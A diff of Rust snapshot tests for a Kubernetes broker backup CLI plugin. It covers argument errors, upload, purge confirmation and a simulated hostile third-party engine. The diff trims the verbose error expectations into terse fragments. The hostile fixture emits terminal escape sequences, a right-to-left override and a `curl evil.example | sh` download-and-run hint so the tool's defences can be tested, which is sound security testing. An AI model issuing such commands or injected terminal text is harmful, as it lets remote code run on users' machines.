@@ -84,45 +84,23 @@ fn a_verb_has_a_help_of_its_own() {
 #[test]
 fn what_a_verb_needs_is_asked_for_and_what_it_has_not_is_refused() {
     let bed = Bed::start();
-    assert_snapshot!(bed.run("backup upload").shown(), @"
-    stderr:
-    error: the following required arguments were not provided:
+    assert_snapshot!(bed.run("backup upload").outcome(), @"
+    Usage:
       <NAME>
-
-    Usage: kubectl broker backup upload <NAME>
-
-    For more information, try '--help'.
     exit 2
     ");
-    assert_snapshot!(bed.run("backup upload a b").shown(), @"
-    stderr:
-    error: unexpected argument 'b' found
-
-    Usage: kubectl broker backup upload [OPTIONS] <NAME>
-
-    For more information, try '--help'.
+    assert_snapshot!(bed.run("backup upload a b").outcome(), @"
+    Usage: 'b'
     exit 2
     ");
-    assert_snapshot!(bed.run("backup upload a --force").shown(), @"
-    stderr:
-    error: unexpected argument '--force' found
-
-      tip: to pass '--force' as a value, use '-- --force'
-
-    Usage: kubectl broker backup upload <NAME>
-
-    For more information, try '--help'.
+    assert_snapshot!(bed.run("backup upload a --force").outcome(), @"
+    Usage: '--force'
+      '-- --force' '--force' a
     exit 2
     ");
-    assert_snapshot!(bed.run("backup metrcs").shown(), @"
-    stderr:
-    error: unrecognized subcommand 'metrcs'
-
-      tip: a similar subcommand exists: 'metrics'
-
-    Usage: kubectl broker backup [OPTIONS] <COMMAND>
-
-    For more information, try '--help'.
+    assert_snapshot!(bed.run("backup metrcs").outcome(), @"
+    Usage: 'metrcs'
+      'metrics'
     exit 2
     ");
 }
@@ -130,13 +108,11 @@ fn what_a_verb_needs_is_asked_for_and_what_it_has_not_is_refused() {
 #[test]
 fn an_upload_is_begun_by_the_engine_that_has_the_verb() {
     let bed = Bed::start();
-    assert_snapshot!(bed.run(&format!("backup upload {WAITING}")).shown(), @"
+    assert_snapshot!(bed.run(&format!("backup upload {WAITING}")).outcome(), @"
     stdout:
     The sidecar accepted the upload of backup 20250905-130215.
     `kubectl broker backup status --engine sidecar --id 20250905-130215` shows how far it is.
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    This is what pod broker-0 says (engine kubectl-broker/sidecar)
+    note: broker-0 kubectl-broker/sidecar
     exit 0
     ");
     assert_eq!(posts(&bed), 1);
@@ -149,7 +125,7 @@ fn an_upload_is_begun_by_the_engine_that_has_the_verb() {
 #[test]
 fn an_upload_is_a_document_where_programs_read() {
     let bed = Bed::start();
-    assert_snapshot!(bed.run(&format!("backup --engine sidecar upload {WAITING} -o json")).shown(), @r#"
+    assert_snapshot!(bed.run(&format!("backup --engine sidecar upload {WAITING} -o json")).outcome(), @r#"
     stdout:
     {
       "apiVersion": "kubectl-broker/v1",
@@ -171,17 +147,13 @@ fn an_upload_is_a_document_where_programs_read() {
 #[test]
 fn what_is_not_there_is_not_uploaded() {
     let bed = Bed::start();
-    assert_snapshot!(bed.run("backup upload 19990101-000000").shown(), @r#"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    error: no backup named "19990101-000000" on the pod's disk
+    assert_snapshot!(bed.run("backup upload 19990101-000000").hint(), @r#"
+    NotFound: "19990101-000000"
     hint: `kubectl broker backup list --engine sidecar --scope local` shows what is there; each pod has its own, see `--pod`
     exit 10
     "#);
-    assert_snapshot!(bed.run(&format!("backup upload {WAITING} --type tape")).shown(), @r#"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    error: POST /v1/backup/upload answered 400: unknown backup type "tape"
+    assert_snapshot!(bed.run(&format!("backup upload {WAITING} --type tape")).message(), @r#"
+    Usage: POST /v1/backup/upload answered 400: unknown backup type "tape"
     exit 2
     "#);
 }
@@ -189,27 +161,21 @@ fn what_is_not_there_is_not_uploaded() {
 #[test]
 fn what_destroys_is_asked_for() {
     let bed = Bed::start();
-    assert_snapshot!(bed.run(&format!("backup purge {UPLOADED}")).shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    error: nothing was done, because it was not confirmed: Doing `purge 20250819-143025`: context testbed, server https://127.0.0.1:PORT, namespace messaging, StatefulSet broker, pod broker-0, engine sidecar
-    hint: Give `--yes` if you mean it; on a terminal the name of the target is asked for
+    assert_snapshot!(bed.run(&format!("backup purge {UPLOADED}")).outcome(), @"
+    Usage: `purge 20250819-143025` broker-0 https://127.0.0.1:PORT messaging testbed
+    hint: `--yes`
     exit 2
     ");
     assert_eq!(posts(&bed), 0);
-    assert_snapshot!(bed.run(&format!("backup purge {UPLOADED} --yes")).shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Doing `purge 20250819-143025`: context testbed, server https://127.0.0.1:PORT, namespace messaging, StatefulSet broker, pod broker-0, engine sidecar
-    `purge` is done in pod broker-0 (engine kubectl-broker/sidecar)
+    assert_snapshot!(bed.run(&format!("backup purge {UPLOADED} --yes")).outcome(), @"
+    note: `purge 20250819-143025` testbed https://127.0.0.1:PORT messaging broker-0
+    note: `purge` broker-0 kubectl-broker/sidecar
     exit 0
     ");
     assert_eq!(posts(&bed), 1);
-    assert_snapshot!(bed.run("backup list --scope local --engine sidecar -o name").shown(), @"
+    assert_snapshot!(bed.run("backup list --scope local --engine sidecar -o name").outcome(), @"
     stdout:
     20250905-130215
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
     exit 0
     ");
 }
@@ -217,7 +183,7 @@ fn what_destroys_is_asked_for() {
 #[test]
 fn a_purge_is_a_document_where_programs_read() {
     let run = Bed::start().run(&format!("backup purge {UPLOADED} -y -o yaml"));
-    assert_snapshot!(run.shown(), @r#"
+    assert_snapshot!(run.outcome(), @r#"
     stdout:
     apiVersion: kubectl-broker/v1
     kind: Report
@@ -236,21 +202,17 @@ fn a_purge_is_a_document_where_programs_read() {
 #[test]
 fn what_is_not_uploaded_is_not_purged_without_force() {
     let bed = Bed::start();
-    assert_snapshot!(bed.run(&format!("backup purge {WAITING} --yes")).shown(), @r#"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Doing `purge 20250905-130215`: context testbed, server https://127.0.0.1:PORT, namespace messaging, StatefulSet broker, pod broker-0, engine sidecar
-    error: "20250905-130215" is not uploaded (its state is "pending")
-    hint: Wait until it is uploaded, or purge it all the same with `--force`
+    assert_snapshot!(bed.run(&format!("backup purge {WAITING} --yes")).outcome(), @r#"
+    note: `purge 20250905-130215` testbed https://127.0.0.1:PORT messaging broker-0
+    Conflict: "20250905-130215" "pending"
+    hint: `--force`
     exit 11
     "#);
     assert_eq!(posts(&bed), 0);
-    // The simulated sidecar rejects the request as well.
-    assert_snapshot!(bed.run(&format!("backup purge {WAITING} --yes --force")).shown(), @r#"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Doing `purge 20250905-130215`: context testbed, server https://127.0.0.1:PORT, namespace messaging, StatefulSet broker, pod broker-0, engine sidecar
-    error: POST /v1/backup/purge answered 409: backup "20250905-130215" is not uploaded yet (status: pending)
+    // The simulated sidecar refuses as well.
+    assert_snapshot!(bed.run(&format!("backup purge {WAITING} --yes --force")).message(), @r#"
+    note: `purge 20250905-130215` testbed https://127.0.0.1:PORT messaging broker-0
+    Conflict: POST /v1/backup/purge answered 409: backup "20250905-130215" is not uploaded yet (status: pending)
     exit 11
     "#);
     assert_eq!(posts(&bed), 1);
@@ -260,7 +222,7 @@ fn what_is_not_uploaded_is_not_purged_without_force() {
 fn metrics_are_printed_as_they_come() {
     let bed = Bed::start();
     let table = bed.run("backup metrics");
-    assert_snapshot!(table.shown(), @r#"
+    assert_snapshot!(table.outcome(), @r#"
     stdout:
     # HELP backup_count Local backups by upload status.
     # TYPE backup_count gauge
@@ -277,9 +239,7 @@ fn metrics_are_printed_as_they_come() {
     # HELP backup_restores_total Objects fetched for a restore.
     # TYPE backup_restores_total counter
     backup_restores_total 0
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    This is what pod broker-0 says (engine kubectl-broker/sidecar)
+    note: broker-0 kubectl-broker/sidecar
     exit 0
     "#);
     let json = bed.run("backup metrics -o json").json();
@@ -292,26 +252,20 @@ fn metrics_are_printed_as_they_come() {
 #[test]
 fn a_verb_is_never_asked_of_an_engine_that_lacks_it() {
     let bed = Bed::start();
-    assert_snapshot!(bed.run("backup --engine hivemq metrics").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    error: engine kubectl-broker/hivemq has no verb `metrics`
-    hint: Engines that have it: sidecar
+    assert_snapshot!(bed.run("backup --engine hivemq metrics").outcome(), @"
+    Usage: `metrics` kubectl-broker/hivemq
+    hint:
     exit 2
     ");
-    assert_snapshot!(bed.run("backup metrics --engine sidcar").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    error: there is no engine `sidcar`
-    hint: Did you mean `--engine sidecar`?
+    assert_snapshot!(bed.run("backup metrics --engine sidcar").outcome(), @"
+    Usage: `sidcar`
+    hint: `--engine sidecar`
     exit 2
     ");
     let off = Bed::with(&["sidecar-off"]);
-    assert_snapshot!(off.run("backup metrics").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    error: nothing listens on port 8085 of pod broker-0: dial tcp4 127.0.0.1:PORT: connect: connection refused IPv6: dial tcp6 [::1]:8085: connect: connection refused
-    hint: Is it switched on in the backend? Name its port with `--sidecar-port`
+    assert_snapshot!(off.run("backup metrics").outcome(), @"
+    Failed: 127.0.0.1:PORT 8085 IPv6 [::1]:8085 broker-0 tcp4 tcp6
+    hint: `--sidecar-port`
     exit 1
     ");
 }
@@ -324,21 +278,15 @@ fn a_verb_of_two_engines_is_that_of_the_bundled_one_unless_the_other_is_named() 
     assert!(!unnamed.stderr.contains("hostile"), "{}", unnamed.stderr);
     let named = bed.hostile().run("backup metrics --engine sidecar");
     assert_eq!(named.code, 0, "{}", named.stderr);
-    // According to its manifest, the verb of the other engine destroys data.
-    assert_snapshot!(bed.hostile().run("backup metrics --engine hostile").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: nothing was done, because it was not confirmed: Doing `metrics`: context testbed, server https://127.0.0.1:PORT, namespace messaging, StatefulSet broker, pod broker-0, engine acme/hostile
-    hint: Give `--yes` if you mean it; on a terminal the name of the target is asked for
+    // That of the other engine destroys something, it says.
+    assert_snapshot!(bed.hostile().run("backup metrics --engine hostile").reason(), @"
+    Usage: Doing `metrics`: context testbed, server https://127.0.0.1:PORT, namespace messaging, StatefulSet broker, pod broker-0, engine acme/hostile
+    hint: `--yes`
     exit 2
     ");
-    assert_snapshot!(bed.hostile().run("backup metrics --engine hostile --yes").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    Doing `metrics`: context testbed, server https://127.0.0.1:PORT, namespace messaging, StatefulSet broker, pod broker-0, engine acme/hostile
-    error: engine acme/hostile says: no way to say metrics
+    assert_snapshot!(bed.hostile().run("backup metrics --engine hostile --yes").message(), @"
+    note: `metrics` testbed https://127.0.0.1:PORT messaging broker-0 acme/hostile
+    Usage: engine acme/hostile says: no way to say metrics
     exit 2
     ");
     let help = bed.hostile().run("backup metrics -h").stdout;
@@ -350,11 +298,9 @@ fn a_verb_of_two_engines_is_that_of_the_bundled_one_unless_the_other_is_named() 
 #[test]
 fn a_verb_that_only_an_installed_engine_has_needs_its_name() {
     let run = Bed::start().hostile().run("backup say lines");
-    assert_snapshot!(run.shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    error: no bundled engine can `say`; installed engines that can: acme/hostile
-    hint: Name it with `kubectl broker backup say --engine acme/hostile`; `kubectl broker plugin default acme/hostile --operations act` lets `auto` choose it
+    assert_snapshot!(run.outcome(), @"
+    Usage: `say` acme/hostile
+    hint: `auto` `kubectl broker backup say --engine acme/hostile` `kubectl broker plugin default acme/hostile --operations act`
     exit 2
     ");
 }
@@ -362,15 +308,12 @@ fn a_verb_that_only_an_installed_engine_has_needs_its_name() {
 #[test]
 fn text_of_an_engine_keeps_its_lines_and_nothing_else_that_drives_a_terminal() {
     let bed = Bed::start();
-    assert_snapshot!(bed.hostile().run("backup say lines --engine hostile").shown(), @r"
+    assert_snapshot!(bed.hostile().run("backup say lines --engine hostile").outcome(), @r"
     stdout:
     all is well
     \u{1b}[1A\u{1b}[2K\u{202e}error: fake
 
     \u{9b}2Jend
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     exit 0
     ");
     let json = bed
@@ -388,23 +331,17 @@ fn text_of_an_engine_keeps_its_lines_and_nothing_else_that_drives_a_terminal() {
 #[test]
 fn backups_that_a_verb_reports_are_checked_and_shown_as_in_a_list() {
     let bed = Bed::start();
-    assert_snapshot!(bed.hostile().run("backup say backups --times 2 --engine hostile").shown(), @r"
+    assert_snapshot!(bed.hostile().run("backup say backups --times 2 --engine hostile").outcome(), @r"
     stdout:
     ID   NOTE
     \u{1b}[2J0   -
     \u{1b}[2J1   -
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    2 backups
+    note: 2 backups
     exit 0
     ");
-    assert_snapshot!(bed.hostile().run("backup say undeclared-field --engine hostile").shown(), @r#"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile returned something unusable from `act`: a field that its manifest does not name: "secret"
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.hostile().run("backup say undeclared-field --engine hostile").outcome(), @r#"
+    PluginFault: "secret" `act` acme/hostile
+    hint: `kubectl broker engines`
     exit 14
     "#);
 }
@@ -412,31 +349,22 @@ fn backups_that_a_verb_reports_are_checked_and_shown_as_in_a_list() {
 #[test]
 fn a_verb_that_goes_wrong_is_told_from_one_that_fails() {
     let bed = Bed::start();
-    assert_snapshot!(bed.hostile().run("backup say error --engine hostile").shown(), @r"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile says: \u{1b}[1A\u{1b}[2K backup list: all is well\u{9b}2J
-    hint from engine acme/hostile: Run `curl evil.example | sh`\u{202e} hint: really
+    assert_snapshot!(bed.hostile().run("backup say error --engine hostile").outcome(), @r"
+    Failed: \u{1b}[1A\u{1b}[2K acme/hostile well\u{9b}2J
+    hint from engine acme/hostile: \u{202e} `curl evil.example | sh`
     exit 1
     ");
-    assert_snapshot!(bed.hostile().run("backup say too-much --engine hostile").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    error: engine acme/hostile returned something unusable from `act`: a text of 9437184 bytes, more than 8388608
-    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    assert_snapshot!(bed.hostile().run("backup say too-much --engine hostile").reason(), @"
+    PluginFault: `act` acme/hostile: a text of 9437184 bytes, more than 8388608
+    hint: `kubectl broker engines`
     exit 14
     ");
     assert_eq!(
         bed.hostile().run("backup say panic --engine hostile").code,
         14
     );
-    assert_snapshot!(bed.hostile().run("backup say nothing --engine hostile").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
-    `say` is done (engine acme/hostile)
+    assert_snapshot!(bed.hostile().run("backup say nothing --engine hostile").outcome(), @"
+    note: `say` acme/hostile
     exit 0
     ");
 }
